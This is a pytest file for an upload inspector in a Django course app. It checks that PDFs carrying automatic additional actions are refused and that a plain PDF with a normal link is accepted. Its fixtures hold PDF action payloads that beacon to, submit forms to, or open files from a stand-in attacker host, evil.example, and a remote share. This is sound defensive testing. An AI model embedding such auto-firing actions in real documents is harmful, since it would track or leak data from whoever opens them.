"""A PDF whose additional actions (/AA) run on an event, such as a page being opened, is refused
whatever the action: a web address fetched, a form submitted to a server, another file opened."""

import pymupdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from courses.practice import files


def _pdf(*, on_page: bool, key: str, value: str) -> bytes:
    document = pymupdf.open()
    document.new_page()
    document.xref_set_key(document[0].xref if on_page else document.pdf_catalog(), key, value)
    data = document.tobytes()
    document.close()
    return data


TRIGGERS = [
    (False, "AA", "<< /WC << /S /URI /URI (http://evil.example/closed) >> >>"),
    (True, "AA", "<< /O << /S /URI /URI (http://evil.example/beacon) >> >>"),
    (True, "AA", "<< /O << /S /SubmitForm /F << /FS /URL /F (http://evil.example/s) >> >> >>"),
    (True, "AA", "<< /O << /S /GoToR /F (//evil/share/x.pdf) /D [0 /Fit] >> >>"),
]


@pytest.mark.parametrize(("on_page", "key", "value"), TRIGGERS)
def test_a_pdf_with_additional_actions_is_refused(on_page, key, value):
    upload = SimpleUploadedFile("report.pdf", _pdf(on_page=on_page, key=key, value=value))
    with pytest.raises(files.UploadRefused) as refused:
        files.inspect_upload(upload, allowed_kinds=["pdf"], max_bytes=10**7)
    assert refused.value.code == "active_content"


def test_a_plain_pdf_with_a_clickable_link_is_accepted():
    document = pymupdf.open()
    page = document.new_page()
    page.insert_text((72, 72), "report")
    page.insert_link(
        {"kind": pymupdf.LINK_URI, "from": pymupdf.Rect(72, 60, 200, 80), "uri": "https://example.org"}
    )
    data = document.tobytes()
    inspected = files.inspect_upload(
        SimpleUploadedFile("report.pdf", data), allowed_kinds=["pdf"], max_bytes=10**7
    )
    assert inspected.kind == "pdf"
